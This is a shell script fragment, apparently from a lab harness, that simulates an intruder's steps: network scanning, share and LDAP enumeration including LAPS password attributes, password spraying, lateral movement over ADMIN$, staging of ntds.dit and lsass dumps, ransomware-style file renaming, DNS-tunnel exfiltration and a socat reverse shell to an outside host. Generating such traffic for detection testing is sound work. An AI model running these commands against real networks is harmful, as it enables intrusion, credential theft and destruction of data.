# What the intruder does, by step.

as() { on "$1" timeout 20 "${@:2}" </dev/null >/dev/null 2>&1 || true; }
smb() { # USER PASSWORD SHARE COMMANDS
  as eve smbclient -s "$lab/samba/client.conf" "//10.20.0.5/$3" -U "EXAMPLE\\$1%$2" -m SMB3 -c "$4"
}

look_around() {
  local n
  as eve nmap -n -sn -PE --disable-arp-ping --min-rate 50 10.20.0.100-140
  as eve nmap -n -Pn -sT -p 445 --max-retries 0 --host-timeout 3s 10.20.0.100-120
  as eve nmap -n -Pn -sT -F --max-retries 0 10.20.0.5
  as eve nmap -n -Pn -sT -p 443 --max-retries 0 203.0.113.80
  for n in $(seq 6); do
    as out socat -u OPEN:/dev/null "TCP4:10.20.0.$((n + 12)):3389,connect-timeout=1"
  done
  for n in $(seq 40 52); do as eve rpcclient -s "$lab/samba/client.conf" -U 'EXAMPLE\ann%Winter-2026' -c 'netshareenumall' "10.20.0.$n"; done
  as eve ldapsearch -x -H ldap://10.20.0.88 -b dc=agency,dc=test '(&(servicePrincipalName=*)(!(objectCategory=computer)))' sAMAccountName
  as eve ldapsearch -x -H ldap://10.20.0.88 -b dc=agency,dc=test '(objectClass=*)' cn ms-Mcs-AdmPwd
  for n in $(seq 60); do echo "http://203.0.113.80/backup$n.zip"; done | as_list
}

as_list() { xargs nsenter --net=/run/netns/out curl -s --max-time 20 -A 'Mozilla/5.0' >/dev/null || true; }

guess_passwords() {
  local n
  for n in $(seq 14); do smb "user$n" Summer-2026 papers ls; done
  for n in $(seq 12); do smb ann "Guess-$n" papers ls; done
  for n in $(seq 12); do on eve timeout 10 kinit "name$n" <<<x >/dev/null 2>&1 || true; done
  for n in $(seq 12); do on eve timeout 10 kinit "user$n" <<<Summer-2026 >/dev/null 2>&1 || true; done
  for n in $(seq 12); do on eve timeout 10 kinit user1 <<<"Guess-$n" >/dev/null 2>&1 || true; done
  for n in $(seq 12); do as eve ldapwhoami -x -H ldap://10.20.0.88 -D uid=user3,ou=people,dc=agency,dc=test -w "Guess-$n"; done
  for n in $(seq 24); do as eve "${shell[@]}" -i "$lab/ssh/old" root@10.20.0.22 true; done
  for n in $(seq 24); do quiet_curl out -u "admin:Guess-$n" http://203.0.113.80/admin/; done
}

move_on() {
  smb bob Winter-2026 'ADMIN$' "put kXbTqz.exe; ls"
  as eve rpcclient -s "$lab/samba/client.conf" -U 'EXAMPLE\ann%Winter-2026' -c 'enumdomusers; netsessenum' 10.20.0.5
}

steal_and_destroy() {
  local n renames=
  smb bob Winter-2026 papers 'put ntds.dit; get ntds.dit copy.dit; put lsass.dmp'
  for n in $(seq 130); do renames+="rename page$n.txt page$n.txt.locked; "; done
  smb bob Winter-2026 many "$renames put HOW_TO_DECRYPT_FILES.txt"
}

reach_out() {
  local n
  as eve dig +tries=1 +time=2 next.stage.test TXT
  for n in $(seq 60); do
    as eve dig +tries=1 +time=2 "$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n').$n.t.exfil.test" TXT
  done
  for n in $(seq 110); do as eve dig +tries=1 +time=2 "$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \n').test" A; done
  become out /usr/sbin/sshd -D -e -p 443 -f "$lab/ssh/sshd_config" </dev/null >"$lab/sshd-out.log" 2>&1 & started+=($!)
  wait_tcp out 443
  as eve "${shell[@]}" -p 443 -i "$lab/ssh/good" root@198.51.100.66 true
  # A shell that reaches out: the host inside connects, and is the server in the connection.
  become out socat TCP4-LISTEN:8022,reuseaddr TCP4-LISTEN:9022,reuseaddr </dev/null >"$lab/relay.log" 2>&1 & started+=($!)
  wait_tcp out 8022
  on eve timeout 8 socat "TCP4:198.51.100.66:8022" EXEC:"/usr/sbin/sshd -i -e -f $lab/ssh/sshd_config",nofork </dev/null >/dev/null 2>&1 &
  sleep 1
  as out "${shell[@]}" -p 9022 -i "$lab/ssh/good" root@127.0.0.1 true
}
